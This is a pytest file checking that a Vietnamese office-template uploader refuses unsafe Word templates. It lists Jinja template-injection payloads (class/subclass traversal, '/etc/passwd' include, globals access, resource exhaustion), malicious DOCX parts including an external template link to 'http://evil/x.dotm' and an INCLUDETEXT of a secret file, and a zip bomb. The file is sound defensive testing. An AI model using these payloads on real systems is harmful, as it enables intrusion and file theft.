"""Templates that come from outside: what is refused, and that what is refused could not have run anyway."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Callable

import docx
import pytest
from jinja2 import TemplateSyntaxError, UndefinedError
from jinja2.sandbox import SecurityError

from tests.office.papers import DECISION, text_of
from thidua.office.paper import decision
from thidua.office.paper.tags import environment, wrong_fields
from thidua.office.paper.upload import composed, wrong_template
from thidua.office.paper.word import packaged, word
from thidua.office.wording import sentence

FORM = decision.FORM
NEEDED = "".join(f"{{{{ {name} }}}}" for name in sorted(FORM.fields.required))


def changed(edit: Callable[[docx.document.Document], None]) -> bytes:
    made, out = docx.Document(io.BytesIO(packaged(FORM))), io.BytesIO()
    edit(made)
    made.save(out)
    return out.getvalue()


def repacked(content: bytes, **parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        for name, part in parts.items():
            target.writestr(name.replace("__", "/"), part)
    return out.getvalue()


def codes(found: list[object]) -> list[str]:
    return [one.code for one in found]  # type: ignore[attr-defined]


def test_the_packaged_template_is_accepted() -> None:
    assert wrong_template(FORM, packaged(FORM)) == []


def test_a_clerks_own_words_are_printed() -> None:
    def edit(made: docx.document.Document) -> None:
        made.add_paragraph("Ghi chú của đơn vị: {{ số_lượng }} theo {{ số }}.")

    own = changed(edit)
    assert wrong_template(FORM, own) == []
    assert "Ghi chú của đơn vị: 01 tập thể, 02 cá nhân theo 05/QĐ-CAX." in text_of(
        word(FORM, decision.values(DECISION), own)
    )


def test_unknown_missing_and_misspelt_fields_are_named_in_vietnamese_all_at_once() -> None:
    told = [
        sentence(p) for p in wrong_fields("{{ số }} {{ nguời_ký }} {{ lương }} {{ cơ_quan }}", FORM.fields)
    ]
    assert told == [
        "Không có chỗ điền “nguời_ký”; có phải “người_ký” không?",
        "Không có chỗ điền “lương”.",
        "Thiếu chỗ điền bắt buộc “ngày_ký”.",
        "Thiếu chỗ điền bắt buộc “người_ký”.",
        "Thiếu chỗ điền bắt buộc “thẩm_quyền”.",
    ]


def test_fields_of_a_list_are_known_only_inside_its_loop() -> None:
    assert wrong_fields(NEEDED + "{% for x in danh_sách %}{{ x.tên }}{% endfor %}", FORM.fields) == []
    assert codes(wrong_fields(NEEDED + "{{ x.tên }}", FORM.fields)) == ["paper.template-unknown"]
    loop = "{% for x in danh_sách %}{{ x.tuổi }}{% endfor %}"
    assert codes(wrong_fields(NEEDED + loop, FORM.fields)) == ["paper.template-unknown"]


def test_a_bracket_left_open_is_shown_where_it_stands() -> None:
    def edit(made: docx.document.Document) -> None:
        made.add_paragraph("Căn cứ {{ số")
        made.add_paragraph("kết thúc")

    (found,) = wrong_template(FORM, changed(edit))
    assert found.code == "paper.template-syntax"


ATTACKS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ số.__class__ }}",
    "{{ cơ_quan.format(x) }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{{ self._TemplateReference__context }}",
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{{ 'a' * 999999999 }}",
    "{{ 9 ** 99999999 }}",
    "{{ lipsum.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m() }}",
    "{% set x = 1 %}",
    "{{ số | attr('__class__') }}",
    "{% for x in danh_sách %}{% for y in danh_sách %}{% for z in danh_sách %}a{% endfor %}{% endfor %}{% endfor %}",
    "{% filter upper %}a{% endfilter %}",
    "{{ [1, 2, 3] }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_whatever_is_more_than_a_field_a_loop_or_a_condition_is_refused(attack: str) -> None:
    assert wrong_fields(NEEDED + attack, FORM.fields) != []


@pytest.mark.parametrize("attack", [a for a in ATTACKS if "for y" not in a])
def test_and_would_not_have_run_had_it_been_let_in(attack: str) -> None:
    with pytest.raises((TemplateSyntaxError, UndefinedError, SecurityError)):
        environment().from_string(attack).render({"số": "5", "cơ_quan": "Công an xã", "danh_sách": []})


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word__vbaProject.bin", b"macro"),
        ("word__embeddings__oleObject1.bin", b"object"),
        (
            "word___rels__settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
            b'Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>',
        ),
        ("word__footer9.xml", b"<w:instrText>INCLUDETEXT c:/secret.docx</w:instrText>"),
    ],
)
def test_macros_objects_and_links_to_the_outside_are_refused(part: str, content: bytes) -> None:
    assert codes(wrong_template(FORM, repacked(packaged(FORM), **{part: content}))) == [
        "paper.template-active"
    ]


def test_what_is_not_word_or_far_too_large_is_refused() -> None:
    assert codes(wrong_template(FORM, b"%PDF-1.7")) == ["paper.template-not-word"]
    assert codes(wrong_template(FORM, b"PK" + bytes(5_000_000))) == ["paper.template-too-large"]
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", bytes(50_000_000))
    assert codes(wrong_template(FORM, bomb.getvalue())) == ["paper.template-too-large"]


def test_a_field_typed_on_a_keyboard_that_splits_letters_is_still_that_field() -> None:
    def edit(made: docx.document.Document) -> None:
        made.add_paragraph(unicodedata.normalize("NFD", "Bên dưới: {{ số_lượng }}"))

    own = changed(edit)
    assert wrong_template(FORM, own) == []
    assert "Bên dưới: 01 tập thể" in text_of(word(FORM, decision.values(DECISION), composed(own)))


def test_a_loop_that_opens_in_a_row_and_closes_outside_is_told_before_anybody_prints() -> None:
    def edit(made: docx.document.Document) -> None:
        row = made.add_table(1, 1).rows[0]
        row.cells[0].text = "{%tr for x in danh_sách %}"
        made.add_paragraph("{%p endfor %}")

    assert codes(wrong_template(FORM, changed(edit))) == ["paper.template-unfillable"]
